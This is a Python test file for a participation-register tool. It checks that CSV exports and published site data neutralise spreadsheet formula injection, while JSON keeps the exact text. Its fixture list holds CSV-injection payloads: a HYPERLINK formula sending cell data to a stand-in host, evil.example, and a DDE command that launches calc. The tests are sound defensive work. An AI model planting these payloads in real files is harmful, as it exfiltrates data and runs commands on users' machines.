"""CSV that a spreadsheet cannot execute: a text cell that starts like a formula
is written as inert text (OWASP), in the exports and the site's data; JSON
keeps the exact text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from cli_support import Registre, set_up
from hypothesis import given, settings
from hypothesis import strategies as st

from registre.adapters.exporters.formats import FORMULA_STARTS, to_csv
from registre.adapters.exporters.tables import Export

LAYER = "unit"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)",
]


@pytest.fixture
def registre(store_url: str) -> Registre:
    r = Registre(store_url)
    set_up(r)
    for n, text in enumerate(FORMULAS):
        r.ok(f"contribution submit fabrik --key F-{n} --session A1 --by P-001 --text {_q(text)}")
    return r


def _q(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_inert(text: str) -> None:
    cells = _cells(text)
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
        # Quoted in the file itself, so the quote cannot be split from its cell.
        assert '"' + "'" + formula.replace('"', '""') + '"' in text


def test_the_csv_export_neutralises_formulas_and_json_keeps_them(registre: Registre) -> None:
    result = registre.plain("export contributions fabrik --format csv")
    assert result.exit_code == 0, result.stderr
    _assert_inert(result.stdout)
    result = registre.plain("export contributions fabrik --format json")
    texts = json.dumps(json.loads(result.stdout), ensure_ascii=False)
    for formula in FORMULAS:
        assert json.dumps(formula, ensure_ascii=False)[1:-1] in texts


def test_the_sites_data_files_neutralise_formulas_and_say_so(
    registre: Registre, tmp_path: Path
) -> None:
    registre.ok("proposal synthesise fabrik P9 --title '=1+1' --from F-0")
    result = registre.plain(f"publish fabrik --out {tmp_path / 'site'}")
    assert result.exit_code == 0, result.stderr
    data = tmp_path / "site" / "donnees"
    _assert_inert((data / "contributions.csv").read_text("utf-8"))
    assert '"\'=1+1"' in (data / "proposals.csv").read_text("utf-8")
    assert '"=1+1"' in (data / "proposals.json").read_text("utf-8")
    page = (tmp_path / "site" / "verifier.html").read_text("utf-8")
    assert "précédée d'une apostrophe" in page or "précédée d&#39;une apostrophe" in page


def test_numbers_stay_numbers() -> None:
    export = Export("t", ["proposal", "total"], [{"proposal": "P1", "total": -2}], {})
    assert to_csv(export) == "proposal,total\r\nP1,-2\r\n"


SAFE = st.text(st.characters(codec="utf-8")).filter(lambda t: not t.startswith(FORMULA_STARTS))


@settings(max_examples=200, derandomize=True, deadline=None)
@given(st.lists(st.tuples(SAFE, SAFE, st.integers() | st.none()), max_size=5))
def test_a_cell_that_is_no_formula_is_written_as_the_csv_module_writes_it(
    rows: list[tuple[str, str, int | None]],
) -> None:
    columns = ["a", "b", "c"]
    export = Export("t", columns, [dict(zip(columns, row, strict=True)) for row in rows], {})
    expected = io.StringIO()
    writer = csv.DictWriter(expected, fieldnames=columns)
    writer.writeheader()
    for row in rows:
        writer.writerow({k: "" if v is None else str(v) for k, v in zip(columns, row, strict=True)})
    assert to_csv(export) == expected.getvalue()


@settings(max_examples=200, derandomize=True, deadline=None)
@given(st.text(st.characters(codec="utf-8")))
def test_every_text_reads_back_as_itself_or_neutralised(text: str) -> None:
    written = to_csv(Export("t", ["a", "b"], [{"a": text, "b": "x"}], {}))
    back = list(csv.reader(io.StringIO(written, newline="")))[1]
    assert back == (["'" + text, "x"] if text.startswith(FORMULA_STARTS) else [text, "x"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_start_of_a_formula_is_neutralised_and_quoted(start: str) -> None:
    written = to_csv(Export("t", ["a"], [{"a": f"{start}1+1"}], {}))
    assert written == f'a\r\n"\'{start}1+1"\r\n'
